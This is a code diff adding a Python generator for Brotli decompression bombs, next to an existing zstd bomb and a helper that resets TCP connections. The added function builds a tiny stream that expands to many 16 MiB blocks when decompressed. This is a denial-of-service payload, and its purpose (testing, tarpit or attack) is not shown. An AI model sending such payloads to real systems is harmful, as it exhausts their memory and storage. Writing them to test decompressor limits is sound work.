@@ -143,6 +143,25 @@ def zstd_bomb(blocks):
     return b"\x28\xb5\x2f\xfd\x00\x38" + block(0) * (blocks - 1) + block(1)
 
 
+def brotli_bomb(blocks):
+    """RFC 7932: so many meta-blocks of 16 MiB, each one literal and a copy of it from a distance of one, in some 20 bytes."""
+    bits = []
+    put = lambda value, count: bits.extend(value >> i & 1 for i in range(count))
+    put(0, 1)  # WBITS 16
+    for _ in range(blocks):
+        put(0, 1), put(2, 2), put((1 << 24) - 1, 24), put(0, 1)  # not the last, six nibbles, MLEN - 1, compressed
+        put(0, 3)                                                # one block type of each kind
+        put(0, 2), put(0, 4), put(0, 2)                          # NPOSTFIX, NDIRECT, the context mode
+        put(0, 2)                                                # one tree for literals, one for distances
+        for symbol, size in ((0, 8), (384 + (1 << 3) + 7, 10), (16, 6)):
+            put(1, 2), put(0, 2), put(symbol, size)              # a simple prefix code of one symbol: it takes no bits itself
+        put((1 << 24) - 1 - 2118, 24)                            # the copy: 2118 and these extra bits
+        put(0, 1)                                                # the distance: 1 and this extra bit
+    put(3, 2)                                                    # the last one, empty
+    bits += [0] * (-len(bits) % 8)
+    return bytes(sum(bit << i for i, bit in enumerate(bits[at:at + 8])) for at in range(0, len(bits), 8))
+
+
 def reset(connection):
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
     connection.close()
